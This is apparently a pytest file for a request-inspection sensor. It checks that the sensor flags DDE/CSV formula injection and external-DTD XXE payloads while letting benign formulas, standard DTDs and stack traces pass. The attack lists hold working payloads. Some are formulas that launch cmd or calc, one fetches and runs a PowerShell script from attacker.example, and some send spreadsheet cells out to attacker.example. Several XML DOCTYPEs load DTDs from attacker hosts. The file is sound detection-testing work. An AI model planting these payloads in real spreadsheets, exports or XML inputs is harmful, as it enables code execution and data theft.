"""Issue #4 gaps: spreadsheet DDE/formula injection, external DTDs, stack traces in bodies (typed JSON: test_typed_json.py)."""
from __future__ import annotations

import json

import pytest

from sensor.detect import THRESHOLD, verdict
from tests.detect.wild_benign import build_request

# (carrier, key, value) as tests/detect/wild_benign.build_request takes them; `json` with a `{…}` value sends it whole
J = "json"

# --- 2. DDE / CSV formula injection
DDE_ATTACKS = [
    ("form", "comment", "=cmd|' /C calc'!A0"),
    ("form", "name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("form", "company", "+cmd|'/c powershell IEX(wget attacker.example/s.ps1)'!A0"),
    ("form", "comment", "-2+3+cmd|' /C calc'!A0"),
    (J, "note", "=cmd|' /C notepad'!'A1'"),
    (J, "title", "=msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"),
    ("form", "comment", "=rundll32|'URL.dll,OpenURL calc.exe'!A"),
    ("form", "comment", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("form", "comment", "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc.exe\",0)"),
    ("multipart", "notes", "@SUM(cmd|'/c calc'!A0)"),
    ("query", "q", "=cmd|'/C powershell -ep bypass -nop -w hidden -c calc'!A0"),
    ("form", "comment", "\t=cmd|' /C calc'!A0"),
    (J, "name", "=WEBSERVICE(\"http://attacker.example/c?d=\"&A1&A2&A3)"),
    (J, "name", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"),
    ("form", "comment", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1&C1,\"Error: click to reload\")"),
    ("form", "comment", "=IMAGE(\"https://attacker.example/p.png?\"&Sheet1!A1:D9)"),
]
DDE_BENIGN = [
    ("form", "comment", "=SUM(A1:A3)"),
    ("form", "comment", "=HYPERLINK(\"https://docs.shop.example/returns\",\"Returns policy\")"),
    ("form", "comment", "=VLOOKUP(B2,Products!A:C,3,FALSE)"),
    ("form", "comment", "=IF(C2>100,\"big\",\"small\")"),
    ("form", "comment", "=WEBSERVICE(\"https://api.exchangerate.example/latest?base=EUR\")"),
    ("form", "comment", "=IMPORTXML(\"https://en.wikipedia.org/wiki/Moon\",\"//h1\")"),
    ("form", "comment", "=IMPORTXML(\"https://www.google.com/search?q=\"&A2,\"//h3\")"),
    ("form", "comment", "=HYPERLINK(\"https://crm.example/customers/\"&A2,A2)"),
    ("form", "comment", "=HYPERLINK(\"mailto:\"&B2,\"Email\")"),
    ("form", "comment", "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/abc123\",\"Sheet1!A1:C10\")"),
    ("form", "phone", "+44 20 7946 0958"),
    ("form", "comment", "-5% on all boots this week"),
    ("form", "comment", "@channel please review the pricing sheet"),
    ("form", "comment", "=A1&\" \"&B1"),
    ("form", "comment", "=CONCATENATE(A2,\" \",B2)"),
    ("form", "comment", "=DDE is how old Excel linked to other apps; we disabled it in the Trust Center"),
]

# --- 3. external DTD on a named host
_X = '<?xml version="1.0"?>\n'
XML = "body:application/xml"
XXE_ATTACKS = [
    (XML, "import", _X + '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">\n<foo>bar</foo>'),
    (XML, "import", _X + '<!DOCTYPE data SYSTEM "https://oob.attacker.example/x.dtd"><data>1</data>'),
    (XML, "import", _X + '<!DOCTYPE order SYSTEM "http://files.example.net/dtd/order.dtd?x=1"><order/>'),
    (XML, "import", _X + '<!DOCTYPE r PUBLIC "x" "http://attacker.example/e.dtd"><r/>'),
    (XML, "import", _X + '<!DOCTYPE svg SYSTEM "http://www.w3.org@attacker.example/svg.dtd"><svg/>'),
    (XML, "import", _X + '<!DOCTYPE properties SYSTEM "http://java.sun.com.attacker.example/dtd/properties.dtd">'
                         '<properties/>'),
    ("body:text/xml", "soap", _X + '<!DOCTYPE soap:Envelope SYSTEM "ftp://ftp.attacker.example/a.dtd">'
                                   '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>'),
    ("multipart", "file", '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'),
]
# In a parsed DOCTYPE any system id on a host that is not a standard publisher is a fetch from someone's server:
# no `.dtd` name needed, and a formal public id borrowed from a standard does not vouch for the host after it
XXE_ATTACKS += [
    (XML, "import", _X + '<!DOCTYPE r SYSTEM "http://evil.example/payload"><r/>'),
    (XML, "import", _X + '<!DOCTYPE r SYSTEM "https://oob.attacker.example/?id=7f3a"><r>1</r>'),
    (XML, "import", _X + '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/x"><html/>'),
    (XML, "import", _X + '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
                         '"http://www.apple.com.attacker.example/DTDs/PropertyList-1.0.dtd"><plist/>'),
    ("body:text/xml", "soap", _X + '<!DOCTYPE x PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "ftp://203.0.113.9/d">'
                                   '<x/>'),
]
XXE_BENIGN = [
    ("form", "message", "Website: https://www.example.com/?ref=abc&utm_source=x"),
    ("form", "message", "Reference manual http://docs.example.com/guide"),
    (XML, "import", _X + '<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>'),
    (XML, "import", _X + '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">'
                         '<html xmlns="http://www.w3.org/1999/xhtml"/>'),
    (XML, "import", _X + '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/">'
                         '<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("form", "message", "Spec: https://www.w3.org/TR/xml/"),
    (XML, "import", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                    '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"/>'),
    (XML, "import", _X + '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
                         '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>'),
    (XML, "import", _X + '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
    (XML, "import", _X + '<!DOCTYPE struts PUBLIC "-//Apache Software Foundation//DTD Struts Configuration 2.5//EN" '
                         '"http://struts.apache.org/dtds/struts-2.5.dtd">\n<struts/>'),
    (XML, "import", _X + '<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN 2.0//EN" '
                         '"https://www.springframework.org/dtd/spring-beans-2.0.dtd">\n<beans/>'),
    (XML, "import", _X + '<!DOCTYPE hibernate-configuration PUBLIC "-//Hibernate/Hibernate Configuration DTD 3.0//EN" '
                         '"http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd">\n<hibernate-configuration/>'),
    (XML, "import", _X + '<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">\n<properties>'
                         '<entry key="a">b</entry></properties>'),
    (XML, "import", _X + '<!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd">\n<suite name="smoke"/>'),
    (XML, "import", _X + '<!DOCTYPE cross-domain-policy SYSTEM "http://www.adobe.com/xml/dtds/cross-domain-policy.dtd">'
                         '<cross-domain-policy/>'),
    (XML, "import", _X + '<!DOCTYPE math SYSTEM "http://www.w3.org/Math/DTD/mathml2/mathml2.dtd"><math/>'),
    (XML, "punchout", _X + '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n'
                           '<cXML payloadID="1@buyer.example" timestamp="2024-06-01T12:00:00Z"/>'),
    (XML, "import", _X + '<!DOCTYPE ldml SYSTEM "http://www.unicode.org/cldr/dtd/1.0/ldml.dtd"><ldml/>'),
    (XML, "import", _X + '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">\n<log4j:configuration/>'),
    (XML, "import", _X + '<!DOCTYPE html SYSTEM "about:legacy-compat">\n<html/>'),
    (XML, "import", _X + '<!DOCTYPE note SYSTEM "Note.dtd">\n<note><to>Tove</to></note>'),
    (XML, "import", _X + '<!DOCTYPE web-app PUBLIC "-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN" '
                         '"http://java.sun.com/dtd/web-app_2_3.dtd">\n<web-app/>'),
    (XML, "import", _X + '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" '
                         '"https://mybatis.org/dtd/mybatis-3-mapper.dtd">\n<mapper namespace="a.B"/>'),
    (XML, "import", _X + '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" '
                         '"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd"><book/>'),
    (XML, "import", _X + '<!DOCTYPE module PUBLIC "-//Checkstyle//DTD Checkstyle Configuration 1.3//EN" '
                         '"https://checkstyle.org/dtds/configuration_1_3.dtd"><module name="Checker"/>'),
]

# --- 4. stack traces in benign bodies (bug reports, error tracking, support tickets)
_NODE = ("Error: ENOENT: no such file or directory, open '/srv/app/config.json'\n"
         "    at Object.openSync (node:fs:601:3)\n    at Object.readFileSync (node:fs:469:35)\n"
         "    at main (/srv/app/index.js:12:5)\n    at node:internal/main/run_main_module:23:47")
_NODE2 = ("TypeError: Cannot read properties of undefined (reading 'map')\n"
          "    at ProductList (webpack-internal:///./src/components/ProductList.jsx:14:22)\n"
          "    at renderWithHooks (http://localhost:3000/static/js/bundle.js:22140:22)\n"
          "    at mountIndeterminateComponent (http://localhost:3000/static/js/bundle.js:25426:17)")
_NODE3 = ("Error: spawn git ENOENT\n    at ChildProcess._handle.onexit (node:internal/child_process:284:19)\n"
          "    at onErrorNT (node:internal/child_process:477:16)\n"
          "    at process.processTicksAndRejections (node:internal/process/task_queues:82:21)")
_PY = ('Traceback (most recent call last):\n  File "/usr/lib/python3.11/runpy.py", line 198, in _run_module_as_main\n'
       '    return _run_code(code, main_globals, None,\n  File "/srv/app/manage.py", line 12, in <module>\n'
       "    execute_from_command_line(sys.argv)\nKeyError: 'DATABASE_URL'")
_PY2 = ('Traceback (most recent call last):\n  File "/home/ana/etl/load.py", line 41, in <module>\n'
        '    df = pd.read_csv("/data/in/orders.csv")\n'
        '  File "/usr/local/lib/python3.12/site-packages/pandas/io/parsers/readers.py", line 1026, in read_csv\n'
        '    return _read(filepath_or_buffer, kwds)\n'
        "FileNotFoundError: [Errno 2] No such file or directory: '/data/in/orders.csv'")
_PY3 = ('Traceback (most recent call last):\n  File "/app/worker.py", line 88, in run\n'
        '    subprocess.run(["ffmpeg", "-i", src, dst], check=True)\n'
        '  File "/usr/lib/python3.10/subprocess.py", line 526, in run\n'
        "    raise CalledProcessError(retcode, process.args,\n"
        "subprocess.CalledProcessError: Command '['ffmpeg', '-i', 'in.mov', 'out.mp4']' returned non-zero exit "
        "status 1.")
_JAVA = ('java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null\n'
         "\tat com.acme.Foo.bar(Foo.java:42)\n\tat com.acme.Main.main(Main.java:10)")
_JAVA2 = ("org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'dataSource' "
          "defined in class path resource [application.yml]\n"
          "\tat org.springframework.beans.factory.support.AbstractAutowireCapableBeanFactory.createBean"
          "(AbstractAutowireCapableBeanFactory.java:517)\n"
          "\tat java.base/java.lang.Thread.run(Thread.java:833)\n"
          "Caused by: java.io.FileNotFoundException: /etc/acme/app.properties (No such file or directory)\n"
          "\tat java.base/java.io.FileInputStream.open0(Native Method)")
_JAVA3 = ("java.io.IOException: Cannot run program \"convert\": error=2, No such file or directory\n"
          "\tat java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)\n"
          "\tat java.base/java.lang.Runtime.exec(Runtime.java:594)\n"
          "\tat com.acme.img.Thumbs.make(Thumbs.java:61)")
_GO = ("panic: runtime error: index out of range [5] with length 3\n\ngoroutine 1 [running]:\n"
       "main.parse(...)\n\t/home/dev/app/main.go:22\nmain.main()\n\t/home/dev/app/main.go:14 +0x1d\nexit status 2")
_GO2 = ("panic: open /etc/myapp/config.yaml: no such file or directory\n\ngoroutine 1 [running]:\n"
        "main.loadConfig()\n\t/src/cmd/server/main.go:31 +0x1a5\nmain.main()\n\t/src/cmd/server/main.go:12 +0x25")
_NET = ("System.IO.FileNotFoundException: Could not find file '/app/appsettings.Production.json'.\n"
        "   at System.IO.FileStream.ValidateFileHandle(SafeFileHandle fileHandle)\n"
        "   at Program.Main(String[] args) in /src/Program.cs:line 12")
_NET2 = ("System.NullReferenceException: Object reference not set to an instance of an object.\n"
         "   at Acme.Web.Controllers.CartController.Add(Int32 id) in C:\\src\\Acme.Web\\Controllers\\"
         "CartController.cs:line 57\n   at lambda_method(Closure , Object , Object[] )\n"
         "   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.Execute(...)")
_RUBY = ("NoMethodError (undefined method `name' for nil:NilClass):\n"
         "app/controllers/orders_controller.rb:14:in `show'\n"
         "actionpack (7.1.2) lib/action_controller/metal/basic_implicit_render.rb:6:in `send_action'")
_PHP = ("PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in /var/www/html/db.php:3\n"
        "Stack trace:\n#0 /var/www/html/index.php(2): require_once()\n#1 {main}\n  thrown in /var/www/html/db.php "
        "on line 3")


def _sentry(exc_type: str, value: str, frames: list[tuple[str, str, int]]) -> str:
    return json.dumps({"event_id": "fc6d8c0c43fc4630ad850ee518f1b9d0", "platform": "python", "level": "error",
                       "exception": {"values": [{"type": exc_type, "value": value, "stacktrace": {"frames": [
                           {"filename": f, "function": fn, "lineno": n, "in_app": True} for f, fn, n in frames]}}]}})


_SENTRY_PHP = json.dumps({"platform": "php", "level": "fatal", "exception": {"values": [{
    "type": "Error", "value": "Call to undefined function mysql_connect()", "stacktrace": {"frames": [
        {"filename": "/app/public/index.php", "abs_path": "/app/public/index.php", "lineno": 2,
         "function": "require_once"},
        {"filename": "src/Controller/CartController.php", "lineno": 57, "function": "App\\Controller\\Cart::add"},
        {"filename": "/srv/app/config.yml", "lineno": 1, "function": "load"}]}}]}})
_SENTRY_NODE = json.dumps({"platform": "node", "exception": {"values": [{
    "type": "Error", "value": "ENOENT: no such file or directory, open '/srv/app/.env.local'", "stacktrace": {"frames": [
        {"filename": "/srv/app/node_modules/dotenv/lib/main.js", "lineno": 31, "function": "Object.config"},
        {"filename": "node:fs", "lineno": 601, "function": "Object.openSync"}]}}]}})

TRACES_BENIGN = [
    (J, "stack", _NODE), ("form", "description", _NODE), ("multipart", "log", _NODE),
    (J, "stack", _NODE2), (J, "message", _NODE3),
    (J, "traceback", _PY), ("form", "body", _PY2), (J, "details", _PY3),
    (J, "stacktrace", _JAVA), ("form", "description", _JAVA2), (J, "stacktrace", _JAVA3),
    ("form", "description", _GO), (J, "message", _GO2),
    (J, "exception", _NET), ("form", "description", _NET2),
    (J, "backtrace", _RUBY), ("form", "body", _PHP),
    ("body:application/json", "store", _sentry("FileNotFoundError", "[Errno 2] No such file or directory: "
                                               "'/etc/acme/settings.toml'", [("/usr/lib/python3.11/runpy.py",
                                                                              "_run_module_as_main", 198),
                                                                             ("/srv/app/settings.py", "load", 12)])),
    ("body:application/json", "store", _sentry("CalledProcessError", "Command '['git', 'fetch', 'origin']' returned "
                                               "non-zero exit status 128.",
                                               [("/usr/lib/python3.11/subprocess.py", "check_call", 413),
                                                ("/srv/app/sync.py", "pull", 40)])),
    ("body:application/json", "store", _SENTRY_PHP), ("body:application/json", "store", _SENTRY_NODE),
    (J, "log", _PHP),
]


# Stack-trace values that stay flagged, with the reason (the test fails when one of them changes)
TRACES_KNOWN_FP = {
    "sentry frame under /var/www": (
        "body:application/json", "store",
        json.dumps({"platform": "php", "exception": {"values": [{"type": "Error", "value": "Class not found",
                    "stacktrace": {"frames": [{"filename": "/var/www/html/index.php", "lineno": 2}]}}]}}),
        "a bare `/var/www/…` or `/etc/…` path as a whole value is what `?file=` LFI probes send; the JSON key "
        "(`filename`, `abs_path`) does not tell a stack frame from a file parameter. Inside trace text such paths "
        "are fine (see TRACES_BENIGN)"),
}


def _flagged(engine, carrier: str, key: str, value: str) -> tuple[bool, str]:
    hits = engine.inspect(build_request(carrier, value, key))
    return verdict(hits) == "attack", ", ".join(sorted({h.rule for h in hits if h.score >= THRESHOLD}))


@pytest.mark.parametrize("carrier,key,value", DDE_ATTACKS + XXE_ATTACKS,
                         ids=lambda v: str(v)[:50])
def test_gap_attack_is_caught(engine, carrier, key, value):
    assert _flagged(engine, carrier, key, value)[0], f"{carrier}:{key}: missed"


@pytest.mark.parametrize("carrier,key,value", DDE_BENIGN + XXE_BENIGN + TRACES_BENIGN,
                         ids=lambda v: str(v)[:50])
def test_gap_benign_stays_clean(engine, carrier, key, value):
    flagged, why = _flagged(engine, carrier, key, value)
    assert not flagged, f"{carrier}:{key}: flagged by {why}"


@pytest.mark.parametrize("name", sorted(TRACES_KNOWN_FP))
def test_gap_known_trace_false_positive_is_still_flagged(engine, name):
    carrier, key, value, _why = TRACES_KNOWN_FP[name]
    assert _flagged(engine, carrier, key, value)[0], f"{name}: now clean, move it to TRACES_BENIGN"
